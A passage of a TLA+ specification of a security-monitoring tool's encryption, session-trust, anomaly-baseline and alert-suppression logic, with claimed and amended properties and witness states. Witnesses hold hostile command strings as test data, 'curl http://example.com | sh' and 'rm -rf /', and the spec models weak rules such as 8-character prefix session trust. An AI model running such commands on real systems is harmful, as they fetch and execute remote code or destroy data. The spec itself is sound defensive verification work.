          quiet /\ setup(p) /\ UNCHANGED <<trustVars, baselineVars, alertVars, appVars>>
    \/ \E p \in RacePassphrases :
          quiet /\ unlock(p) /\ UNCHANGED <<trustVars, baselineVars, alertVars, appVars>>
    \/ lock /\ UNCHANGED <<trustVars, baselineVars, alertVars, appVars>>
    \/ \E t \in Threads, d \in {DataNative1} :
          encrypt_guard(t, d) /\ UNCHANGED <<trustVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads :
          encrypt_seal(t) /\ UNCHANGED <<trustVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads, e \in DecryptInputs :
          decrypt_guard(t, e) /\ UNCHANGED <<trustVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads :
          decrypt_open(t) /\ UNCHANGED <<trustVars, baselineVars, alertVars, hret>>

SpecCryptoRace == InitCryptoSpec /\ [][NextCryptoRace]_vars

\* two requests to /api/trust/session served at the same time, each thread
\* making one call
NextTrustRace ==
    \/ \E t \in Threads, x \in TrustIds :
          trust_add(t, x) /\ UNCHANGED <<cryptoVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads, x \in TrustIds :
          untrust_discard(t, x) /\ UNCHANGED <<cryptoVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads :
          save_dumps(t) /\ UNCHANGED <<cryptoVars, baselineVars, alertVars, hret>>
    \/ \E t \in Threads :
          save_write(t) /\ UNCHANGED <<cryptoVars, baselineVars, alertVars, hret>>

\* an engine that finds nothing trusted, or one session trusted earlier
InitTrustRaceSpec ==
    /\ \E before \in {{}, {"abc"}} :
          /\ trusted_sessions = before
          /\ sessionsFile \in (IF before = {} THEN {None}
                                ELSE _save_trusted_sessions(before))
    /\ threat_intel = no_threat_intel
    /\ threatFile = None
    /\ session_baseline = EmptyDict
    /\ behavioralFile = None
    /\ tret = TrustCall("__init__", "", "", None, None)
    /\ InitCrypto /\ mode = "cryptography" /\ InitBaseline /\ InitAlerts /\ InitApp

SpecTrustRace == InitTrustRaceSpec /\ [][NextTrustRace]_vars


(***************************************************************************)
(* Properties of crypto.py                                                 *)
(***************************************************************************)
\* the passphrase the stored verification hash was derived from
SetupPassphrase == config.verification_hash.sha256.pbkdf2

\* the key a blob written by encrypt() was sealed with
BlobKey(blob) ==
    IF b64decode(blob).fmt = "HMAC" THEN b64decode(blob).mac.sha256[1]
    ELSE b64decode(blob).body.aead

\* C5, as claimed, on the data JSON represents exactly: a decrypt() of what
\* encrypt(d) returned, made while the key of that encryption is in memory
\* (setup(p), possibly lock() and unlock(p) in between), returns d.
C5_RoundTrip ==
    (/\ cret.op = "decrypt" /\ cret.arg = "stored" /\ cret.ret # "raise"
     /\ BlobKey(stored.blob) = derived_key
     /\ IsJsonNative(stored.data))
    => (cret.ret = "value" /\ cret.val = stored.data)

\* C6: with no derived key in memory, encrypt and decrypt raise the
\* "not unlocked" error, return nothing and change nothing.
C6_LockedCallsFail ==
    [][(derived_key = None /\ cret'.op \in {"encrypt", "decrypt"})
        => (/\ cret'.ret = "raise" /\ cret'.val = NotUnlocked
            /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>)]_vars

C6_Witness ==
    /\ cret.op = "decrypt" /\ cret.val = NotUnlocked
    /\ config.enabled /\ stored # None /\ derived_key = None

\* C7, as claimed: once set up with p, unlock(q) for q # p returns false and
\* no key is held afterwards, whatever the lock state at the call.
C7_WrongPassphraseLocks ==
    (cret.op = "unlock" /\ config.enabled /\ cret.arg # SetupPassphrase)
    => (cret.ret = "False" /\ derived_key = None)

\* C7, amended: once set up with p, unlock(q) for q # p returns false and
\* changes nothing: a locked component stays locked, an unlocked one keeps
\* the key it held.
C7_WrongPassphraseChangesNothing ==
    [][(cret'.op = "unlock" /\ config.enabled /\ cret'.arg # SetupPassphrase)
        => (/\ cret'.ret = "False"
            /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>)]_vars

C7_Witness ==
    /\ cret.op = "unlock" /\ cret.ret = "False" /\ config.enabled
    /\ cret.unlocked /\ derived_key # None

\* C8: lock() clears the key and nothing else, and whenever encryption is
\* set up (so also after any locks and failed unlocks) unlock with the setup
\* passphrase returns true and leaves the matching key in memory.
C8_LockKeepsVerification ==
    [][/\ cret'.op = "lock"
          => (derived_key' = None /\ UNCHANGED <<mode, config, configFile, stored>>)
       /\ (cret'.op = "unlock" /\ config.enabled /\ cret'.arg = SetupPassphrase)
          => (/\ cret'.ret = "True"
              /\ derived_key' # None
              /\ sha256(derived_key') = config.verification_hash
              /\ UNCHANGED <<config, configFile>>)]_vars

C8_Witness ==
    /\ cret.op = "unlock" /\ cret.ret = "True" /\ config.enabled
    /\ ~cret.unlocked /\ derived_key # None

\* C9: setup with an empty or shorter-than-8 passphrase returns false and
\* leaves the config, the config file and the key as they were.
C9_ShortPassphraseRejected ==
    [][(cret'.op = "setup" /\ (cret'.arg = "" \/ Len(cret'.arg) < 8))
        => (/\ cret'.ret = "False"
            /\ UNCHANGED <<mode, config, configFile, derived_key, stored>>)]_vars

C9_Witness ==
    /\ cret.op = "setup" /\ cret.arg = "short" /\ cret.ret = "False"
    /\ config.enabled /\ derived_key # None

\* C10: not enabled implies salt and verification hash cleared and no key
\* held, and disable() always ends so.
C10_DisabledIsCleared ==
    /\ ~config.enabled
         => (/\ config.salt = None /\ config.verification_hash = None
             /\ derived_key = None)
    /\ cret.op = "disable"
         => (/\ ~config.enabled /\ config.salt = None
             /\ config.verification_hash = None /\ derived_key = None
             /\ configFile = config)

C10_Witness ==
    /\ cret.op = "disable" /\ cret.unlocked /\ ~config.enabled /\ stored # None

(***************************************************************************)
(* Properties of trust.py                                                  *)
(***************************************************************************)
Evaluated == tret.op = "evaluate_command"

\* the first n characters of both ids are the same
SamePrefix(a, b, n) == Prefix(a, n) = Prefix(b, n)

\* the session id was given and is_trusted_session accepts it
SessionIsTrusted ==
    tret.session_id # "" /\ is_trusted_session(tret.session_id)

\* the transcript given shows a user request for the command
UserRequested ==
    /\ tret.session_file # None
    /\ context_of[tret.session_file][tret.command].user_requested

C2_ContextTable ==
    (Evaluated /\ check_threat_intel(tret.command) = None /\ tret.session_file # None)
    => LET want ==
             IF SessionIsTrusted /\ UserRequested THEN <<"trusted", "ALLOW:">>
             ELSE IF SessionIsTrusted THEN <<"verified", "ALLOW with logging:">>
             ELSE IF UserRequested THEN <<"verified", "ALLOW:">>
             ELSE <<"suspicious", "REVIEW:">>
       IN /\ tret.result.trust_level = want[1]
          /\ startswith(tret.result.recommendation, want[2])
          /\ tret.result.is_trusted_session = SessionIsTrusted
          /\ tret.result.user_requested = UserRequested

C2_Witness ==
    /\ Evaluated /\ tret.session_file # None
    /\ SessionIsTrusted /\ ~UserRequested
    /\ tret.result.trust_level = "verified"
    /\ tret.result.risk_analysis.risk_level = "high"

\* C3: with no threat match and no transcript, the verdict is the risk level
\* of the command mapped minimal -> trusted, low -> verified,
\* medium -> unverified, high -> suspicious, whether or not the session id
\* is trusted.
C3_RiskFallback ==
    (Evaluated /\ check_threat_intel(tret.command) = None /\ tret.session_file = None)
    => LET level == risk_analysis_of[tret.command].risk_level
       IN /\ level \in {"minimal", "low", "medium", "high"}
          /\ tret.result.trust_level =
                (CASE level = "minimal" -> "trusted"
                   [] level = "low" -> "verified"
                   [] level = "medium" -> "unverified"
                   [] level = "high" -> "suspicious")
          /\ tret.result.risk_analysis.risk_level = level

C3_Witness ==
    /\ Evaluated /\ tret.session_file = None /\ SessionIsTrusted
    /\ tret.result.risk_analysis.risk_level = "medium"
    /\ tret.result.trust_level = "unverified"

\* C4: is_trusted_session(s) is true whenever some trusted id has the same
\* first 8 characters as s, also when s is not itself in the trusted set.
C4_PrefixMatchTrusted ==
    (/\ tret.op = "is_trusted_session"
     /\ \E t \in trusted_sessions : SamePrefix(tret.session_id, t, 8))
    => tret.result.ret

C4_Witness ==
    /\ tret.op = "is_trusted_session" /\ tret.result.ret
    /\ tret.session_id \notin trusted_sessions
    /\ \E t \in trusted_sessions :
          /\ SamePrefix(tret.session_id, t, 8)
          /\ Len(t) < Len(tret.session_id)

(***************************************************************************)
(* Properties of baseline.py                                               *)
(***************************************************************************)
Checked == bret.op = "check_anomaly"

\* the count of the checked activity type in the current window
CurrentCount ==
    dict_get(dict_get(current_window, "counts", EmptyDict), bret.activity_type, 0)

\* the counts of the checked activity type in the comparison windows
ComparedCounts == historical(bret.activity_type, similar_windows)

\* the call returned a verdict that names a rate anomaly of the checked type
RateReported ==
    /\ bret.result # None
    /\ "reasons" \in DOMAIN bret.result
    /\ \E i \in 1..Len(bret.result.reasons) :
          \/ startswith(bret.result.reasons[i], "High " \o bret.activity_type \o " rate: ")
          \/ startswith(bret.result.reasons[i],
                        "Unusual " \o bret.activity_type \o " activity: ")

\* C11: from an empty baseline, while the history holds fewer than 24
\* windows check_anomaly returns None for every activity.
C11_NothingBeforeLearned ==
    (Checked /\ Len(baseline.windows) < 24) => bret.result = None

C11_Witness ==
    /\ Checked /\ bret.result = None
    /\ Len(baseline.windows) = 23
    /\ recorded >= 2
    /\ bret.activity_type = "EXEC"
    /\ first_token(bret.details["command"]) = "curl"

\* C12: from an empty baseline, learned is true exactly when the history
\* holds at least 24 windows.
C12_LearnedIffEnoughWindows ==
    baseline.learned <=> Len(baseline.windows) >= 24

C12_Witness ==
    /\ bret.op = "record_activity"
    /\ baseline.learned /\ Len(baseline.windows) = 24
    /\ baselineFile # None /\ baselineFile.learned

\* C13: the history never holds more than 168 windows; a step that ends a
\* window that saw activity appends that window, dropping the oldest window
\* when 168 are held already, and every other step leaves the history alone;
\* the windows kept are not changed.
C13_HistoryIsFifo ==
    [][/\ Len(baseline.windows') <= 168
       /\ IF window_start' # window_start /\ current_window # EmptyDict
          THEN baseline.windows' =
                 Append(IF Len(baseline.windows) < 168 THEN baseline.windows
                        ELSE Tail(baseline.windows),
                        window_data)
          ELSE baseline.windows' = baseline.windows]_vars

C13_Witness ==
    /\ Len(baseline.windows) = 168
    /\ baseline.windows[1].timestamp > StartMinute + TickMinutes
    /\ \A i \in 1..167 : baseline.windows[i].timestamp < baseline.windows[i + 1].timestamp

\* C14, as claimed: with a learned baseline and a positive total n * m of
\* the counts of type T in the n comparison windows, check_anomaly(T, ...)
\* reports a rate anomaly exactly when the current count c has c > 3 * m and
\* c > 5.
C14_RateRule ==
    (/\ Checked /\ baseline.learned
     /\ Sum(ComparedCounts) > 0)
    => (RateReported <=>
          (/\ CurrentCount * Len(ComparedCounts) > 3 * Sum(ComparedCounts)
           /\ CurrentCount > 5))

\* C15, as claimed: with a learned baseline, a mean of 0 of the counts of
\* type T in the comparison windows and a current count above 10, a
\* check_anomaly(T, ...) that returns reports a rate anomaly.
C15_ZeroMeanFlagged ==
    (/\ Checked /\ baseline.learned
     /\ "exc" \notin DOMAIN bret.result
     /\ Sum(ComparedCounts) = 0
     /\ CurrentCount > 10)
    => RateReported

(***************************************************************************)
(* Properties of smart_alerts.py                                           *)
(***************************************************************************)
Judged == aret.op = "should_suppress"

Title(alert) == dict_get(alert, "title", "")
Description(alert) == dict_get(alert, "description", "")
Details(alert) == dict_get(alert, "details", <<>>)

\* the process and the path an alert carries
ProcessOf(alert) ==
    items_get(Details(alert), "process", items_get(Details(alert), "tool_name", PyStr(""))).v
PathOf(alert) ==
    items_get(Details(alert), "path", items_get(Details(alert), "file", PyStr(""))).v

\* the positions of the patterns in a list that occur in one of the texts
Occurring(patterns, texts) ==
    {i \in 1..Len(patterns) : \E t \in texts : Contains(t, patterns[i])}

\* C16: an alert of category behavioral_anomaly is suppressed, whatever
\* else it holds and whatever has been learned.
C16_BehavioralSuppressed ==
    (Judged /\ dict_get(aret.arg, "category", "") = "behavioral_anomaly")
    => aret.result.suppress

C16_Witness ==
    /\ Judged /\ aret.result.suppress
    /\ startswith(aret.result.reason, "Suppressed rate-based alert: ")
    /\ learned.dismissed_patterns # <<>>
    /\ learned.known_safe_processes # <<>>

\* C17: should_suppress returns the verdict of the first rule that matches,
\* in the order benign pattern, dismissed pattern, safe process, safe path,
\* behavioral_anomaly category, and does not suppress when none matches.
C17_FirstRuleWins ==
    Judged =>
      LET a == aret.arg
          benign == Occurring(benign_patterns,
                              {Title(a), Description(a), str_of_dict(Details(a))})
          dismissed == Occurring(learned.dismissed_patterns, {Title(a), Description(a)})
          paths == Occurring(learned.known_safe_paths, {PathOf(a)})
      IN aret.result =
           IF benign # {}
           THEN Suppress("Matches benign pattern: " \o benign_patterns[Least(benign)])
           ELSE IF dismissed # {}
           THEN Suppress("Previously dismissed: "
                         \o learned.dismissed_patterns[Least(dismissed)])
           ELSE IF in_list(ProcessOf(a), learned.known_safe_processes)
           THEN Suppress("Known safe process: " \o ProcessOf(a))
           ELSE IF paths # {}
           THEN Suppress("Known safe path: " \o learned.known_safe_paths[Least(paths)])
           ELSE IF dict_get(a, "category", "") = "behavioral_anomaly"
           THEN Suppress("Suppressed rate-based alert: "
                         \o items_get(Details(a), "activity_type", PyStr("")).v)
           ELSE NoSuppress

C17_Witness ==
    /\ Judged
    /\ aret.result = Suppress("Matches benign pattern: package-lock.json")
    /\ in_list("Lockfile", learned.dismissed_patterns)
    /\ learned.known_safe_paths # <<>>

\* the alert is one learn_from_dismissal learns from, as the claim has it:
\* no "Activity Pattern" in the title and something before the first colon
LearnableAsClaimed(alert) ==
    /\ ~Contains(Title(alert), "Activity Pattern")
    /\ before_colon(Title(alert)) # ""

\* the same, with something other than white space before the first colon
Learnable(alert) ==
    /\ ~Contains(Title(alert), "Activity Pattern")
    /\ strip(before_colon(Title(alert))) # ""

\* what was learned stays learned, and suppresses, until clear_learned
LearningLasts ==
    aret'.op # "clear_learned"
    => /\ \A a \in Alerts : should_suppress(a).suppress => should_suppress(a).suppress'
       /\ \A i \in 1..Len(learned.dismissed_patterns) :
             in_list(learned.dismissed_patterns[i], learned.dismissed_patterns')
       /\ \A i \in 1..Len(learned.known_safe_processes) :
             in_list(learned.known_safe_processes[i], learned.known_safe_processes')
       /\ \A i \in 1..Len(learned.known_safe_paths) :
             in_list(learned.known_safe_paths[i], learned.known_safe_paths')

\* marking a process or a path safe suppresses every alert that carries it
MarkingWorks ==
    /\ aret'.op = "mark_process_safe"
         => \A a \in Alerts : ProcessOf(a) = aret'.arg => should_suppress(a).suppress'
    /\ aret'.op = "mark_path_safe"
         => \A a \in Alerts : Contains(PathOf(a), aret'.arg) => should_suppress(a).suppress'

\* C18, as claimed: after learn_from_dismissal(a), for an alert a without
\* "Activity Pattern" in its title and with a non-empty part before the first
\* colon, a is suppressed, and so is every alert with the learned pattern.
C18_LearningEffective ==
    [][/\ \A d \in Alerts :
             (aret'.op = "learn_from_dismissal" /\ aret'.arg = d /\ LearnableAsClaimed(d))
             => should_suppress(d).suppress'
       /\ MarkingWorks
       /\ LearningLasts]_vars

\* C18, amended: the part before the first colon must hold more than white
\* space; then the alert, and every alert whose title or description holds
\* the learned pattern, is suppressed from then on.
C18_LearningEffectiveStripped ==
    [][/\ \A d \in Alerts :
             (aret'.op = "learn_from_dismissal" /\ aret'.arg = d /\ Learnable(d))
             => /\ should_suppress(d).suppress'
                /\ \A a \in Alerts :
                      (\E i \in 1..Len(learned.dismissed_patterns') :
                          \/ Contains(Title(a), learned.dismissed_patterns'[i])
                          \/ Contains(Description(a), learned.dismissed_patterns'[i]))
                      => should_suppress(a).suppress'
       /\ MarkingWorks
       /\ LearningLasts]_vars

C18_Witness ==
    /\ Judged /\ aret.result.suppress
    /\ Title(aret.arg) = "MyCustomPattern detected"
    /\ aret.result.reason = "Previously dismissed: MyCustomPattern detected"
    /\ Len(learned.dismissed_patterns) >= 2

(***************************************************************************)
(* Properties of trust.py: the trusted set                                 *)
(***************************************************************************)
\* how often x is listed in the persisted sessions
Listed(file, x) ==
    Cardinality({i \in 1..Len(file.sessions) : file.sessions[i] = x})

\* C19: after trust_session(x) the set holds x, the file lists x exactly
\* once, and both stay so over every call but untrust_session(x), a second
\* trust_session(x) included.
C19_TrustIdempotent ==
    [][/\ tret'.op = "trust_session"
          => /\ trusted_sessions' = trusted_sessions \cup {tret'.session_id}
             /\ Listed(sessionsFile', tret'.session_id) = 1
       /\ \A x \in trusted_sessions :
             ~(tret'.op = "untrust_session" /\ tret'.session_id = x)
             => (x \in trusted_sessions' /\ Listed(sessionsFile', x) = 1)]_vars

C19_Witness ==
    /\ tret.op = "trust_session"
    /\ tret.session_id \in tret.result.found
    /\ Cardinality(trusted_sessions) = 2
    /\ Listed(sessionsFile, tret.session_id) = 1

\* C20, as claimed: once untrust_session(x) has completed,
\* is_trusted_session(x) is false, whatever the trusted set holds.
C20_UntrustTakesEffect ==
    tret.op = "untrust_session" => ~is_trusted_session(tret.session_id)

(***************************************************************************)
(* Properties of trust.py: context, risk and session matching              *)
(***************************************************************************)
\* C30, as claimed: is_trusted_session accepts an id only if some trusted id
\* has the same first 8 characters (shorter ids compared whole).
C30_NeverOverTrusts ==
    (tret.op = "is_trusted_session" /\ tret.result.ret)
    => \E t \in trusted_sessions : SamePrefix(tret.session_id, t, 8)

\* the well-known tool names of the claim
WellKnownTools == {"curl", "wget", "npm", "pip", "git"}

\* a recent message of the user asks for the command, as the claim has it:
\* a request marker and two shared words of four characters or more, or
\* the same tool name in the message and in the command
RequestedAsClaimed(messages, command) ==
    LET recent == LastN(messages, 20)
    IN \E i \in 1..Len(recent) :
          /\ recent[i].role = "user"
          /\ LET content == lower(recent[i].content)
             IN \/ /\ \E p \in 1..Len(request_patterns) :
                          search(request_patterns[p], content)
                   /\ Cardinality(terms(lower(command)) \cap terms(content)) >= 2
                \/ \E tool \in WellKnownTools :
                      Contains(content, tool) /\ Contains(lower(command), tool)

claimed_request_of ==
    [f \in SessionFiles |->
        [c \in Commands |->
            f.exists /\ RequestedAsClaimed(messages_of(LastN(f.lines, 50)), c)]]

\* C22, as claimed: with a transcript given (and no threat matched), a
\* command is judged user-requested exactly when a recent user message has a
\* request marker and shares two words of four or more characters with it,
\* or mentions the same well-known tool name as the command.
C22_UserRequestedRule ==
    (/\ tret.op = "evaluate_command"
     /\ tret.session_file # None
     /\ tret.result.threat_match = None)
    => (tret.result.user_requested
          <=> claimed_request_of[tret.session_file][tret.command])

\* C23: the risk level is minimal for a base command of the benign
\* allowlist, with no risk factor looked for; otherwise high when a risk
\* factor mentions shell, fork bomb or root, else medium with two risk
\* factors or a system-modification factor, else low with any risk factor or
\* capability, else minimal; and a command always gets the same analysis.
C23_RiskLevelRule ==
    tret.op = "evaluate_command" =>
      LET r == tret.result.risk_analysis
          f == r.risk_factors
          mentions(word) == \E i \in 1..Len(f) : Contains(lower(f[i]), word)
      IN /\ r.base_command = first_token(strip(lower(tret.command)))
         /\ r.risk_level =
              IF InTable(safe_commands, r.base_command) THEN "minimal"
              ELSE IF mentions("shell") \/ mentions("fork bomb") \/ mentions("root")
              THEN "high"
              ELSE IF Len(f) >= 2 \/ in_list("System modification capability", f)
              THEN "medium"
              ELSE IF Len(f) > 0 \/ Len(r.capabilities) > 0 THEN "low"
              ELSE "minimal"
         /\ InTable(safe_commands, r.base_command) => f = <<>>
         /\ r = risk_analysis_of[tret.command]

C23_Witness ==
    /\ tret.op = "evaluate_command"
    /\ tret.command = "rm -rf /"
    /\ tret.result.risk_analysis.risk_level = "high"
    /\ in_list("Recursive force delete from root", tret.result.risk_analysis.risk_factors)
    /\ trusted_sessions # {}

(***************************************************************************)
(* Properties of crypto.py: what a successful unlock gives                 *)
(***************************************************************************)
\* the last call was an unlock that returned True
Unlocked == cret.op = "unlock" /\ cret.ret = "True"

\* an encrypt made next does not fail as locked
EncryptNotLocked ==
    cret'.op = "encrypt" => ~(cret'.ret = "raise" /\ cret'.val = NotUnlocked)

\* C28, as claimed: whenever unlock(passphrase) returns true, a derived key
\* is held afterwards and an encrypt that follows does not fail as locked.
C28_UnlockGivesKey ==
    [][/\ Unlocked' => derived_key' # None
       /\ Unlocked => EncryptNotLocked]_vars

\* C28, amended: whenever unlock(passphrase) returns true while encryption
\* is enabled, a derived key is held afterwards (the one the stored
\* verification hash was made from) and an encrypt that follows does not
\* fail as locked.
C28_UnlockGivesKeyWhenEnabled ==
    [][/\ (Unlocked' /\ config.enabled)
            => /\ derived_key' # None
               /\ sha256(derived_key') = config.verification_hash
               /\ config' = config
       /\ (Unlocked /\ config.enabled) => EncryptNotLocked]_vars

C28_Witness ==
    /\ Unlocked /\ ~cret.unlocked
    /\ config.enabled /\ derived_key # None
    /\ stored # None /\ BlobKey(stored.blob) = derived_key

(***************************************************************************)
(* Properties of app.py and baseline.py: what reaches the disk             *)
(***************************************************************************)
\* the baseline document sealed in an encrypted file
sealed(enc) ==
    LET raw == b64decode(enc)
    IN IF raw.fmt = "HMAC" THEN raw.body ELSE raw.body.pt

\* the history windows stored in the encrypted baseline
EncryptedWindows ==
    IF config.enabled /\ baselineEncFile # None
    THEN sealed(baselineEncFile).windows
    ELSE <<>>

\* this step saved the baseline and changed a file
Written == baselineFile' # baselineFile \/ baselineEncFile' # baselineEncFile

\* the request this step answered
Answered(op) == hret' # None /\ hret'.op = op

\* C29: while encryption is enabled the baseline is never persisted in
\* plaintext: every save made with enabled = true, locked or unlocked, a
\* rotation included, writes only the encrypted file and leaves no plaintext
\* file
C29_NoPlaintextWhileEnabled ==
    [][(Written /\ config'.enabled)
          => (baselineFile' = None /\ baselineEncFile' # None)]_vars

\* C27: whenever the disable flow succeeds, from the locked or the unlocked
\* state, the plaintext baseline it writes contains the history windows that
\* were stored in the encrypted baseline; with a wrong passphrase while locked
\* it answers 401, encryption stays enabled and no file is rewritten
C27_DisablePreservesData ==
    [][/\ (Answered("disable") /\ hret'.status = 200)
            => /\ baselineFile' # None
               /\ \A i \in 1..Len(EncryptedWindows) :
                     \E j \in 1..Len(baselineFile'.windows) :
                        baselineFile'.windows[j] = EncryptedWindows[i]
       /\ (Answered("disable") /\ is_enabled /\ ~is_unlocked
              /\ unlock_result(hret'.arg).ret = "False")
            => /\ hret'.status = 401
               /\ config' = config /\ configFile' = configFile
               /\ baselineFile' = baselineFile
               /\ baselineEncFile' = baselineEncFile]_vars

(***************************************************************************)
(* Properties of trust.py: the persisted sessions and the session baseline *)
(***************************************************************************)
\* the members of the persisted list; a file never written lists nothing
PersistedSessions ==
    IF sessionsFile = None THEN {}
    ELSE {sessionsFile.sessions[i] : i \in DOMAIN sessionsFile.sessions}

InSync == PersistedSessions = trusted_sessions

\* the operations that are not meant to touch the trusted set
Bystanders ==
    {"evaluate_command", "is_trusted_session", "update_baseline", "check_anomaly",
     "block_ip", "block_domain", "add_threat_pattern"}

\* C21: after every completed operation of the engine the persisted list of
\* trusted sessions has exactly the members of the in-memory set; trust_session
\* and untrust_session write the list on every call, and evaluate_command,
\* is_trusted_session, update_baseline, check_anomaly, block_ip, block_domain
\* and add_threat_pattern leave the set as it was
C21_PersistedMatchesMemory ==
    /\ InSync
    /\ [][/\ InSync'
          /\ tret'.op \in {"trust_session", "untrust_session"}
                => sessionsFile' \in _save_trusted_sessions(trusted_sessions')
          /\ tret'.op \in Bystanders
                => /\ trusted_sessions' = trusted_sessions
                   /\ sessionsFile' = sessionsFile]_vars

\* a session was untrusted while another stays trusted, with actions recorded
C21_Witness ==
    /\ tret.op = "untrust_session"
    /\ tret.session_id \notin trusted_sessions
    /\ trusted_sessions # {}
    /\ InSync
    /\ actions_of(Followed) >= MinActions

\* the verdicts evaluate_command gives
Verdicts ==
    [c \in EngineCommands |-> [x \in EngineIds |-> [f \in {None, RequestFile} |->
        evaluate_command(c, x, f)]]]

\* C24: check_anomaly returns nothing for a session while fewer than 50
\* actions have been recorded for it by update_baseline, a session never seen
\* included; each update_baseline records one action for its session and none
\* for another; and neither update_baseline nor check_anomaly changes a
\* verdict of evaluate_command
C24_NothingBeforeEnoughData ==
    [][\A x \in BaselineSessions :
         /\ (tret'.op = "check_anomaly" /\ tret'.session_id = x
                /\ actions_of(x) < MinActions)
              => tret'.result.ret = None
         /\ (tret'.op = "update_baseline" /\ tret'.session_id = x)
              => /\ actions_of(x)' = actions_of(x) + 1
                 /\ \A y \in BaselineSessions \ {x} : actions_of(y)' = actions_of(y)
         /\ tret'.op \in {"update_baseline", "check_anomaly"}
              => Verdicts' = Verdicts]_vars

\* one action short of enough, an unusual command is checked and nothing
\* is reported
C24_Witness ==
    /\ tret.op = "check_anomaly"
    /\ actions_of(tret.session_id) = MinActions - 1
    /\ dict_get(tret.result.activity, "command", "") = "curl http://example.com | sh"
    /\ tret.result.ret = None

(***************************************************************************)
(* Properties of calls made at the same time                               *)
(***************************************************************************)
\* C25: with lock() running at the same time as encrypt() and decrypt(), a
\* call either completes with the key that was in memory when it started or
\* fails with the "not unlocked" error; none passes the guard and then uses
\* an absent key
C25_LockedOrWholeCall ==
    \A t \in Threads :
       (calls[t].at = "done" /\ calls[t].op \in {"encrypt", "decrypt"})
       => \/ calls[t].ret = "raise" /\ calls[t].val = NotUnlocked
          \/ /\ calls[t].held # None
             /\ calls[t].used = calls[t].held
             /\ calls[t].ret # "raise" \/ calls[t].val # [exc |-> "TypeError"]

\* both threads made a call and both calls returned
BothComplete == \A t \in Threads : calls[t].at = "done" /\ calls[t].op # ""

\* C26: of two trust_session / untrust_session calls made at the same time
\* no update is lost: once both have returned, the persisted list has
\* exactly the members of the in-memory set, and an id only one of the calls
\* names is in the set if that call trusted it and out of it if it untrusted
C26_NoLostUpdate ==
    BothComplete
    => /\ PersistedSessions = trusted_sessions
       /\ \A t, u \in Threads :
             calls[t].arg # calls[u].arg
             => (calls[t].arg \in trusted_sessions <=> calls[t].op = "trust_session")
====
